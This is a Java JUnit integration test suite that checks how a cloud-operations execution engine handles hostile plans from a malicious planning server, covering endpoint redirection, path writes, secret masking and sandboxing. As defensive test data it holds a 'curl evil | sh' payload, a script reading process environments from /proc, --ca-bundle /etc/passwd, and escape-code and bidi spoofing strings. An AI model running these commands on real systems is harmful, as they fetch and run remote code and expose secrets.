package io.cloudops.execute;

import static io.cloudops.execute.TestEngines.approvals;
import static io.cloudops.execute.TestEngines.cli;
import static io.cloudops.execute.TestEngines.request;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.cloudops.InvalidInputException;
import io.cloudops.aws.AwsClientFactory;
import io.cloudops.execute.command.AwsOperations;
import io.cloudops.execute.command.AwsServices;
import io.cloudops.execute.command.CliCommandParser;
import io.cloudops.execute.command.CliNames;
import io.cloudops.execute.executor.ProcessSandbox;
import io.cloudops.execute.executor.ScriptSettings;
import io.cloudops.execute.risk.IamAccessLevels;
import io.cloudops.execute.risk.ResourceLookup;
import io.cloudops.execute.risk.RiskAssessor;
import io.cloudops.execute.risk.RiskPolicy;
import io.cloudops.execute.risk.SensitiveActions;
import io.cloudops.json.Json;
import io.cloudops.model.ExecutionPlan;
import io.cloudops.model.ExecutionRequest;
import io.cloudops.model.ExecutionResult;
import io.cloudops.model.PlannedStep;
import io.cloudops.model.RiskLevel;
import io.cloudops.model.RunMode;
import io.cloudops.model.StepKind;
import io.cloudops.testing.MotoClients;
import io.cloudops.testing.MotoExtension;
import io.cloudops.testing.MotoServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.S3Client;

/**
 * Plans a hostile planning server could send, run through the real engine, the real AWS CLI and
 * moto. For every attack: refused or rated at least its documented level; no file outside the run
 * directory changes (the fake home and the data dir are hashed before and after); no connection
 * reaches the attacker's loopback listener; no secret appears in output, history or files.
 */
@ExtendWith(MotoExtension.class)
class HostilePlanCorpusIT {

  private static final List<String> GLOBAL_OPTIONS =
      List.of(
          "endpoint-url",
          "profile",
          "region",
          "output",
          "query",
          "debug",
          "no-verify-ssl",
          "no-paginate",
          "ca-bundle",
          "no-sign-request",
          "cli-read-timeout",
          "cli-connect-timeout",
          "cli-binary-format",
          "cli-input-json",
          "cli-input-yaml",
          "color",
          "version");
  private static final List<String> INVISIBLE =
      List.of(
          "\u0000", "\u0001", "\u001b", "\n", "\t", "\u007f", "\u0085", "\u200b", "\u202e",
          "\ufeff");

  @TempDir Path dataDir;
  @TempDir Path home;
  private AwsClientFactory clients;
  private MotoServer moto;
  private ServerSocket attacker;
  private final AtomicInteger attackerConnections = new AtomicInteger();
  private String before;

  @BeforeEach
  void setUp(MotoServer moto) throws IOException {
    this.moto = moto;
    clients = TestEngines.clients(moto.endpoint());
    Files.writeString(home.resolve(".bashrc"), "echo hello\n");
    Files.createDirectories(home.resolve(".aws"));
    Files.writeString(home.resolve(".aws/credentials"), "[default]\n");
    attacker = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread accept =
        new Thread(
            () -> {
              while (!attacker.isClosed()) {
                try {
                  Socket connection = attacker.accept();
                  attackerConnections.incrementAndGet();
                  connection.close();
                } catch (IOException closed) {
                  return;
                }
              }
            });
    accept.setDaemon(true);
    accept.start();
    TestEngines.engine(dataDir, clients).build(); // the data dir's own key exists before
    before = hashes();
  }

  @AfterEach
  void checkNothingLeaked() throws IOException {
    attacker.close();
    clients.close();
    assertThat(attackerConnections).as("connections to the attacker's endpoint").hasValue(0);
    assertThat(hashes()).as("files of the home and the data dir").isEqualTo(before);
  }

  @Test
  void everyAbbreviationOfEveryGlobalOption_isRefused() {
    String url = attackerUrl();
    int tried = 0;
    for (String option : GLOBAL_OPTIONS) {
      for (int length = 1; length <= option.length(); length++) {
        String prefix = "--" + option.substring(0, length);
        for (List<String> args :
            List.of(
                List.of("describe-instances", prefix, url),
                List.of("describe-instances", prefix + "=" + url))) {
          assertRefused(cli("1", "ec2", args.toArray(String[]::new)));
          tried++;
        }
      }
    }
    assertThat(tried).isGreaterThan(300);
  }

  @Test
  void controlCharactersInEveryPosition_areRefused() {
    String value = "http://127.0.0.1/x";
    for (String invisible : INVISIBLE) {
      for (int i = 0; i <= value.length(); i++) {
        String hostile = value.substring(0, i) + invisible + value.substring(i);
        assertRefused(
            cli(
                "1",
                "ec2",
                "create-tags",
                "--resources",
                "i-1",
                "--tags",
                "Key=a,Value=" + hostile));
        assertRefused(
            cli("1", "ec2", "describe-instances", "--filters", "Name=" + hostile + ",Values=a"));
      }
    }
  }

  @Test
  void endpointRedirection_neverReachesAnotherHost() throws Exception {
    String url = attackerUrl();
    for (String[] args :
        List.of(
            new String[] {"describe-instances", "--e", url},
            new String[] {"describe-instances", "--endpoint", url},
            new String[] {"describe-instances", "--endpoint-url=\u0001" + url},
            new String[] {"describe-instances", "--ca-bundle", "/etc/passwd"},
            new String[] {"describe-instances", "--region", "eu-west-1"},
            new String[] {"describe-instances", "--regio", "eu-west-1"})) {
      assertRefused(cli("1", "ec2", args));
    }
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    ExecutionResult allowed =
        engine.execute(request(null, cli("1", "ec2", "describe-instances")), List.of());
    assertThat(allowed.steps().get(0).argv())
        .anySatisfy(a -> assertThat(a).startsWith("--endpoint-url=" + moto.endpoint()));
  }

  @Test
  void everyStreamingOperation_writesOnlyToTheRunDirectory() {
    String planPath = home.resolve(".bashrc").toString();
    int streaming = 0;
    for (String service :
        List.of(
            "s3api",
            "lambda",
            "ec2",
            "iam",
            "sts",
            "rds",
            "dynamodb",
            "ecs",
            "eks",
            "elbv2",
            "cloudformation",
            "sqs",
            "sns")) {
      for (String operation : AwsOperations.names(service)) {
        if (!AwsOperations.require(service, operation).streamingOutput()) {
          continue;
        }
        streaming++;
        List<String> args =
            CliCommandParser.parse(service, List.of(operation, planPath)).arguments("RUN/out");
        assertThat(args).doesNotContain(planPath).endsWith("RUN/out");
      }
    }
    assertThat(streaming).isGreaterThanOrEqualTo(3);
  }

  @Test
  void getObjectToAHomeFile_writesTheRunDirectoryInstead() throws IOException {
    try (S3Client s3 = MotoClients.configure(S3Client.builder(), moto).build()) {
      s3.createBucket(b -> b.bucket("drop"));
      s3.putObject(
          b -> b.bucket("drop").key("payload"), RequestBody.fromString("curl evil | sh\n"));
    }
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    ExecutionRequest request =
        request(
            null,
            cli(
                "1",
                "s3api",
                "get-object",
                home.resolve(".bashrc").toString(),
                "--bucket",
                "drop",
                "--key",
                "payload"));

    PlanReview review = engine.review(request);
    ExecutionResult result = engine.execute(request, approvals(request, "bob"));

    assertThat(review.risk().level()).isGreaterThanOrEqualTo(RiskLevel.MEDIUM);
    assertThat(result.status().name()).isEqualTo("SUCCESS");
    assertThat(Files.readString(home.resolve(".bashrc"))).isEqualTo("echo hello\n");
  }

  @Test
  void targetMembersInEverySyntax_keepTheProductionRuleAndTheCap() {
    RiskAssessor risk =
        new RiskAssessor(
            IamAccessLevels.bundled(),
            RiskPolicy.DEFAULT,
            ResourceLookup.of(
                Map.of(
                    "i-0prod1234", Map.of("Env", "Prod"),
                    "orders-db", Map.of("environment", "production"),
                    "prod-bucket", Map.of("stage", "live"))));
    List<PlannedStep> steps = new ArrayList<>();
    for (String syntax : List.of("%s", "[\"%s\"]", "[ \"%s\" ]")) {
      steps.add(
          cli(
              "1",
              "ec2",
              "stop-instances",
              "--instance-ids",
              String.format(syntax, "i-0prod1234")));
      steps.add(
          cli(
              "1",
              "ec2",
              "stop-instances",
              "--instance-ids=" + String.format(syntax, "i-0prod1234")));
      steps.add(
          cli(
              "1",
              "ec2",
              "create-tags",
              "--resources",
              String.format(syntax, "i-0prod1234"),
              "--tags",
              "Key=a,Value=b"));
    }
    steps.add(cli("1", "rds", "stop-db-instance", "--db-instance-identifier", "orders-db"));
    steps.add(
        cli(
            "1",
            "s3api",
            "put-bucket-tagging",
            "--bucket",
            "prod-bucket",
            "--tagging",
            "TagSet=[{Key=a,Value=b}]"));
    steps.add(
        cli(
            "1",
            "s3api",
            "put-bucket-tagging",
            "--bucket=prod-bucket",
            "--tagging",
            "{\"TagSet\":[{\"Key\":\"a\",\"Value\":\"b\"}]}"));
    for (PlannedStep step : steps) {
      assertThat(risk.assess(step).level()).as(step.args().toString()).isEqualTo(RiskLevel.HIGH);
    }
    StringBuilder sixty = new StringBuilder("[");
    for (int i = 0; i < 60; i++) {
      sixty.append(i == 0 ? "" : ",").append("\"i-0").append(String.format("%07d", i)).append('"');
    }
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    assertThatThrownBy(
            () ->
                engine.review(
                    request(
                        null, cli("1", "ec2", "stop-instances", "--instance-ids", sixty + "]"))))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageContaining("60 resources");
  }

  @Test
  void everySensitiveAction_isRefusedOrRatedAtItsLevel() {
    RiskAssessor risk = RiskAssessor.withDefaults();
    Map<String, String> cliServices = Map.of("s3", "s3api", "elasticloadbalancing", "elbv2");
    int rated = 0;
    for (SensitiveActions.Entry entry : SensitiveActions.bundled().all()) {
      String[] action = entry.action().split(":");
      String service = cliServices.getOrDefault(action[0], action[0]);
      PlannedStep step = cli("1", service, CliNames.of(action[1]));
      assertThat(risk.assess(step).level())
          .as(entry.action())
          .isGreaterThanOrEqualTo(entry.level());
      if (AwsServices.client(service).isPresent()) {
        rated++;
      }
    }
    assertThat(rated).isGreaterThan(50);
  }

  @Test
  void secretsAndDeceptions_areMaskedOrStrippedInTheReview() {
    ExecutionEngine engine =
        TestEngines.engine(dataDir, clients)
            .scripts(
                new ScriptSettings(
                    List.of("/bin/sh"),
                    null,
                    Duration.ofSeconds(10),
                    Map.of("PATH", "/usr/bin:/bin")))
            .build();
    PlannedStep tagging =
        new PlannedStep(
            "1",
            "ec2",
            List.of(
                "create-tags", "--resources", "i-1", "--tags", "Key=k,Value=AKIAIOSFODNN7EXAMPLE"),
            "stop one \u001b[2K\rHigh: terminate \u202eeverything",
            StepKind.AWS_CLI,
            null,
            null,
            null,
            null);
    PlannedStep script =
        new PlannedStep(
            "2", "", List.of(), "", StepKind.SCRIPT, null, null, null, "echo \u001b[31mhi\n");

    PlanReview review = engine.review(request(null, tagging, script));

    assertThat(Json.write(review))
        .doesNotContain("AKIAIOSFODNN7EXAMPLE")
        .doesNotContain("\u001b")
        .doesNotContain("\u202e");
    assertThat(review.steps().get(0).argv()).anySatisfy(a -> assertThat(a).contains("****"));
    assertThat(review.steps().get(1).script()).isEqualTo("echo \\u001b[31mhi\n");
    assertThat(review.risk().level()).isEqualTo(RiskLevel.HIGH);
  }

  @Test
  void limitsAndDuplicates_areRefused() {
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    List<PlannedStep> many = new ArrayList<>();
    for (int i = 0; i < 8000; i++) {
      many.add(cli("s" + i, "ec2", "describe-instances"));
    }
    assertThatThrownBy(
            () ->
                engine.review(
                    new ExecutionRequest(
                        "ctx", new ExecutionPlan(many, null), "alice", null, RunMode.EXECUTE)))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageContaining("8000 steps");
    assertThatThrownBy(
            () ->
                engine.review(
                    request(
                        null,
                        cli("1", "ec2", "describe-instances"),
                        cli("1", "ec2", "describe-instances"))))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageContaining("repeats step ids [1]");
    assertThatThrownBy(
            () ->
                engine.review(
                    request(
                        null,
                        cli(
                            "1",
                            "ec2",
                            "create-tags",
                            "--resources",
                            "i-1",
                            "--tags",
                            "Key=a,Value=" + "x".repeat(70_000)))))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageContaining("bytes of arguments");
  }

  @Test
  void sdkStreamingOperation_isRefused() {
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    PlannedStep getObject =
        new PlannedStep(
            "1",
            "",
            List.of(),
            "",
            StepKind.AWS_SDK,
            "s3",
            "GetObject",
            Json.mapper().createObjectNode().put("Bucket", "b").put("Key", "k"),
            null);

    assertRefused(getObject);
    assertThatThrownBy(() -> engine.review(request(null, getObject)))
        .hasMessageContaining("streams its response");
  }

  @Test
  void approvedScript_cannotReadCloudOpsEnvironmentOrTheHome() throws IOException {
    assumeTrue(
        ProcessSandbox.isolated() || "true".equalsIgnoreCase(System.getenv("CI")),
        "bubblewrap is not installed");
    ExecutionEngine engine =
        TestEngines.engine(dataDir, clients)
            .scripts(
                new ScriptSettings(
                    List.of("/bin/sh"),
                    null,
                    Duration.ofSeconds(20),
                    Map.of("PATH", "/usr/bin:/bin")))
            .build();
    String marker = System.getenv("PATH");
    ExecutionRequest request =
        request(
            null,
            new PlannedStep(
                "1",
                "",
                List.of(),
                "",
                StepKind.SCRIPT,
                null,
                null,
                null,
                "cat /proc/$PPID/environ /proc/1/environ | tr '\\0' '\\n'; ls -a "
                    + System.getProperty("user.home")
                    + "; echo done\n"));

    ExecutionResult result = engine.execute(request, approvals(request, "bob", "carol"));

    String output = result.steps().get(0).output();
    assertThat(output).contains("done").doesNotContain("PATH=" + marker).doesNotContain(".m2");
  }

  private void assertRefused(PlannedStep step) {
    ExecutionEngine engine = TestEngines.engine(dataDir, clients).build();
    assertThatThrownBy(() -> engine.review(request(null, step)))
        .as(step.args().toString())
        .isInstanceOf(InvalidInputException.class);
  }

  private String attackerUrl() {
    return "http://127.0.0.1:" + attacker.getLocalPort();
  }

  private String hashes() throws IOException {
    Map<String, String> hashes = new TreeMap<>();
    for (Path root : List.of(home, dataDir)) {
      try (Stream<Path> files = Files.walk(root)) {
        for (Path file : files.filter(Files::isRegularFile).toList()) {
          String relative = root.relativize(file).toString();
          if (relative.startsWith("history") || relative.startsWith("locks")) {
            continue; // the engine's own history and run locks change by design
          }
          hashes.put(file.toString(), sha256(Files.readAllBytes(file)));
        }
      }
    }
    return hashes.toString();
  }

  private static String sha256(byte[] bytes) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
